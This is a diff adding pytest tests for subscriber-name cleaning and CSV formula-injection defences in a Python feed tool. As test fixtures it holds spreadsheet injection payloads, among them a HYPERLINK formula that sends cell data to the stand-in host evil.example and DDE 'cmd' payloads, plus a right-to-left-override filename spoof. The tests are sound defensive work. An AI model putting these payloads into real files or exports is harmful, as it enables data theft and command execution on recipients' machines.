@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -14,12 +17,14 @@ from mash.subscribers import (
     UNSUBSCRIBED,
     Subscriber,
     add_subscriber,
+    clean_name,
     import_subscribers,
     list_subscribers,
     load_subscribers,
     parse_subscribers,
     remove_subscriber,
     save_subscribers,
+    spreadsheet_safe,
     validate_email,
 )
 
@@ -177,3 +182,81 @@ def test_rewrite_refuses_when_it_would_drop_bad_rows(tmp_path: Path) -> None:
     with pytest.raises(ConfigError, match=r"subscribers.csv:3"):
         add_subscriber(path, "bob@example.com")
     assert "broken" in path.read_text()
+
+
+# --- names and spreadsheets (see #21) ------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+]
+
+
+def test_names_with_control_characters_are_refused_by_line(tmp_path: Path) -> None:
+    source = tmp_path / "in.csv"
+    source.write_text(
+        "email,name\n"
+        "ann@example.com,Ann\n"
+        "bell@example.com,Bell\x07Ringer\n"
+        "eve@example.com,Eve \u202egnp.exe\n"
+        "del@example.com,Del\x7f\n"
+        "tab@example.com,Tab\tSeparated\n",
+        encoding="utf-8",
+    )
+    report = import_subscribers(tmp_path / "subscribers.csv", source)
+    assert report.added == 2 and [p.split(": ")[0] for p in report.problems] == [
+        f"{source}:3",
+        f"{source}:4",
+        f"{source}:5",
+    ]
+    assert "control character (U+0007)" in report.problems[0]
+    assert "control character (U+202E)" in report.problems[1]
+    names = [s.name for s in load_subscribers(tmp_path / "subscribers.csv").subscribers]
+    assert names == ["Ann", "Tab Separated"]  # whitespace is flattened, as before
+    with pytest.raises(ValueError, match="control character"):
+        add_subscriber(tmp_path / "subscribers.csv", "zed@example.com", "Zed\x1b[31m")
+
+
+def test_csv_cells_never_start_a_formula_and_read_back_the_same(tmp_path: Path) -> None:
+    path = tmp_path / "subscribers.csv"
+    people = [Subscriber(f"p{i}@example.com", name) for i, name in enumerate(FORMULAS)]
+    people.append(Subscriber("-dash@example.com", "Plain Name"))  # a valid address, too
+    save_subscribers(path, people)
+    cells = [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' in cells
+    assert "''=already quoted" in cells
+    assert load_subscribers(path).subscribers == tuple(people)
+
+
+def test_subscribers_list_neutralises_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from mash.cli import main
+
+    config = tmp_path / "feeds.yaml"
+    config.write_text("feeds:\n  - https://example.org/feed\n")
+    save_subscribers(
+        tmp_path / "data" / "subscribers.csv",
+        [Subscriber(f"p{i}@example.com", name) for i, name in enumerate(FORMULAS)],
+    )
+    assert main(["--config", str(config), "subscribers", "list"]) == 0
+    fields = [f for line in capsys.readouterr().out.splitlines() for f in line.split("\t")]
+    assert len(fields) == 3 * len(FORMULAS)
+    assert not [f for f in fields if f.startswith(("=", "+", "-", "@"))]
+
+
+@given(st.text(), st.sampled_from(["", "=", "'", "''=", "@", "-", "+"]))
+def test_every_acceptable_name_reads_back_as_written(text: str, start: str) -> None:
+    try:
+        name = clean_name(start + text)
+    except ValueError:
+        return  # refused names are the test above
+    assert not spreadsheet_safe(name).startswith(("=", "+", "-", "@", "\t", "\r"))
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "subscribers.csv"
+        save_subscribers(path, [Subscriber("ann@example.com", name)])
+        assert load_subscribers(path).subscribers == (Subscriber("ann@example.com", name),)
